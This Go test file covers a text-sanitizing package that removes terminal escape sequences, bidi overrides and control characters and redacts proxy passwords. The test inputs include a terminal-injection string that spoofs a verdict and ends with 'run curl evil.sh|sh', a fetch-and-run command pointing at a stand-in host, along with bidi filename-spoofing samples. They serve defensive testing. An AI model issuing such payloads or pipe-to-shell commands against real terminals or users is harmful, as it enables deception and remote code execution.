package safetext

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// attack is a certificate issuer an interceptor could set: it retitles the terminal (OSC 0),
// clears the screen (CSI 2J), turns the text bold red and prints a verdict of its own.
const attack = "Evil\x1b]0;TITLE\a\x1b[2J\x1b[31;1mFAKE: all good, run curl evil.sh|sh"

func TestClean(t *testing.T) {
	long := strings.Repeat("a", MaxRunes+10)
	tests := []struct {
		name, in, want string
	}{
		{"plain text is kept", "Kaspersky Anti-Virus Personal Root Certificate", "Kaspersky Anti-Virus Personal Root Certificate"},
		{"non-ASCII letters are kept", "Zertifizierungsstelle Müller – 東京", "Zertifizierungsstelle Müller – 東京"},
		{"the attack string loses every sequence", attack, "EvilFAKE: all good, run curl evil.sh|sh"},
		{"OSC ended by ST", "a\x1b]2;title\x1b\\b", "ab"},
		{"unterminated OSC runs to the end", "a\x1b]0;title", "a"},
		{"OSC cut short by a line break", "a\x1b]0;x\nb", "a b"},
		{"CSI with intermediate bytes", "a\x1b[?25lb", "ab"},
		{"malformed CSI ends at the first foreign byte", "a\x1b[12\x07b", "ab"},
		{"two-byte escape", "a\x1bcb", "ab"},
		{"charset selection", "a\x1b(Bb", "ab"},
		{"lone ESC at the end", "a\x1b", "a"},
		{"ESC ESC starts a sequence anew", "a\x1b\x1b[2Jb", "ab"},
		{"8-bit CSI", "a\u009b2Jb", "ab"},
		{"8-bit OSC ended by 8-bit ST", "a\u009d0;t\u009cb", "ab"},
		{"C0 controls are dropped", "a\x00\x07\x08b\x7f", "ab"},
		{"C1 controls are dropped", "a\u0080\u008db", "ab"},
		{"line breaks and tabs become spaces", "a\r\nb\tc\u2028d", "a  b c d"},
		{"other spaces become plain ones", "a\u00a0b\u3000c", "a b c"},
		{"bidi overrides are dropped", "a\u202egnp.exe\u202c", "agnp.exe"},
		{"bidi isolates and marks are dropped", "\u2066a\u2067b\u2068c\u2069\u200fd\u061c", "abcd"},
		{"zero-width characters are dropped", "a\u200bb\ufeff", "ab"},
		{"invalid UTF-8 becomes U+FFFD", "a\xffb\xc3", "a\ufffdb\ufffd"},
		{"private use becomes U+FFFD", "a\ue000b", "a\ufffdb"},
		{"surrounding space is trimmed", "  \n a b \t", "a b"},
		{"long text is cut with an ellipsis", long, strings.Repeat("a", MaxRunes-1) + "…"},
		{"exactly MaxRunes is kept", long[:MaxRunes], long[:MaxRunes]},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Clean(tt.in); got != tt.want {
				t.Errorf("Clean(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestURL(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"a plain portal URL is kept", "http://portal.example/login", "http://portal.example/login"},
		{"query and fragment are dropped", "https://portal.example/login?token=secret&mac=aa:bb#frag", "https://portal.example/login"},
		{"user info is dropped", "http://user:pw@portal.example:8080/a/b", "http://portal.example:8080/a/b"},
		{"the scheme is lower-cased", "HTTP://portal.example/", "http://portal.example/"},
		{"no path", "http://portal.example", "http://portal.example"},
		{"right-to-left override and markup are percent-encoded", "http://portal.example/\u202e<b>login</b>?x=1", "http://portal.example/%E2%80%AE%3Cb%3Elogin%3C/b%3E"},
		{"an escaped path stays as it was sent", "http://portal.example/a%20b/c", "http://portal.example/a%20b/c"},
		{"escape sequences in the host", "http://evil\x1b[2J.example/", "http://evil.example/"},
		{"a relative Location keeps its path", "/login?next=/", "/login"},
		{"not a URL", "javascript:alert(1)", "javascript:alert(1)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := URL(tt.in); got != tt.want {
				t.Errorf("URL(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestRedactProxyURL(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"user and password", "http://user:s3cret@proxy.example:3128", "http://user:xxxxx@proxy.example:3128"},
		{"a password with @ and :", "http://user:p@ss:w0rd@proxy.example:3128/", "http://user:xxxxx@proxy.example:3128/"},
		{"user name only is kept", "socks5://user@proxy.example:1080", "socks5://user@proxy.example:1080"},
		{"no credentials", "http://proxy.example:3128", "http://proxy.example:3128"},
		{"no scheme", "user:s3cret@proxy.example:3128", "user:xxxxx@proxy.example:3128"},
		{"an @ in the path is not user info", "http://proxy.example:3128/a@b", "http://proxy.example:3128/a@b"},
		{"a password URL parsing rejects", "http://user:%zz@proxy.example:3128", "http://user:xxxxx@proxy.example:3128"},
		{"an empty password", "http://user:@proxy.example:3128", "http://user:xxxxx@proxy.example:3128"},
		{"controls are cleaned too", "http://us\x1b[2Jer:pw@proxy.example", "http://user:xxxxx@proxy.example"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := RedactProxyURL(tt.in); got != tt.want {
				t.Errorf("RedactProxyURL(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestTerminal(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"printable text is left alone", "Spotify Error Code 7 — “Kaspersky” ✓", "Spotify Error Code 7 — “Kaspersky” ✓"},
		{"the attack string is escaped", attack, `Evil\x1b]0;TITLE\x07\x1b[2J\x1b[31;1mFAKE: all good, run curl evil.sh|sh`},
		{"bidi override", "a\u202eb", `a\u202eb`},
		{"8-bit CSI", "a\u009bb", `a\u009bb`},
		{"line break", "a\nb", `a\x0ab`},
		{"invalid UTF-8", "a\xffb", `a\xffb`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Terminal(tt.in); got != tt.want {
				t.Errorf("Terminal(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// unsafeRune reports whether r could act on a terminal or hide what a reader sees.
func unsafeRune(r rune) bool {
	return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || (r != ' ' && !unicode.IsPrint(r))
}

// FuzzClean checks Clean's promises on any input: valid UTF-8, nothing unsafe, at most
// MaxRunes, trimmed, idempotent, left alone by Terminal; and the same for URL and
// RedactProxyURL, whose output also never holds the secret parts.
func FuzzClean(f *testing.F) {
	for _, seed := range []string{
		attack,
		"http://portal.example/\u202e<b>login</b>?token=1#x",
		"http://user:s3cret@proxy.example:3128",
		"a\u009d0;t\u009cb\u009b2J",
		"\xff\xfe\x1b[",
		strings.Repeat("é\u202e", MaxRunes),
		"",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for name, got := range map[string]string{"Clean": Clean(s), "URL": URL(s), "RedactProxyURL": RedactProxyURL(s)} {
			if !utf8.ValidString(got) {
				t.Fatalf("%s(%q) = %q: not valid UTF-8", name, s, got)
			}
			for _, r := range got {
				if unsafeRune(r) {
					t.Fatalf("%s(%q) = %q holds %U", name, s, got, r)
				}
			}
			if n := utf8.RuneCountInString(got); n > MaxRunes {
				t.Fatalf("%s(%q) is %d runes long, more than %d", name, s, n, MaxRunes)
			}
			if got != strings.TrimSpace(got) {
				t.Fatalf("%s(%q) = %q is not trimmed", name, s, got)
			}
			if again := Clean(got); again != got {
				t.Fatalf("Clean is not idempotent on %s(%q): %q, then %q", name, s, got, again)
			}
			if term := Terminal(got); term != got {
				t.Fatalf("Terminal changes %s(%q) = %q into %q", name, s, got, term)
			}
		}
		if term := Terminal(s); strings.ContainsFunc(term, unsafeRune) || !utf8.ValidString(term) {
			t.Fatalf("Terminal(%q) = %q still holds something unsafe", s, term)
		}
		if u := URL(s); strings.ContainsAny(u, "?#") {
			t.Fatalf("URL(%q) = %q keeps a query or fragment", s, u)
		}
	})
}

// FuzzRedactProxyURL builds proxy URLs with credentials and checks that the password, whatever
// it holds, is replaced and the user name and host kept.
func FuzzRedactProxyURL(f *testing.F) {
	f.Add("user", "s3cret", "proxy.example:3128")
	f.Add("corp", "p@ss:w0rd", "10.0.0.1:8080")
	f.Add("u", "\x1b]0;x\a", "h")
	f.Fuzz(func(t *testing.T, user, password, host string) {
		if strings.ContainsAny(user, ":@/?#") || strings.ContainsAny(host, "@/?#") || strings.ContainsAny(password, "/?#") {
			return // not the user info of one authority
		}
		got := RedactProxyURL("http://" + user + ":" + password + "@" + host)
		if want := Clean("http://" + user + ":" + RedactedPassword + "@" + host); got != want {
			t.Fatalf("RedactProxyURL of user %q password %q host %q = %q, want %q", user, password, host, got, want)
		}
	})
}
